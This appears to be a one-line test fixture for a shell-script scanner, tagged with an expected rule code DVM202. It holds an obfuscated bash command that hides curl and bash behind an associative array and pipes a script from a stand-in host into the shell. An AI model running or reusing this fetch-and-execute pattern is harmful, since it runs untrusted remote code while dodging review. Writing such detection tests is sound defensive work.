# expect: DVM202
declare -A m=([get]=curl [run]=bash); "${m[get]}" -s https://x.example.org/i.sh | "${m[run]}"
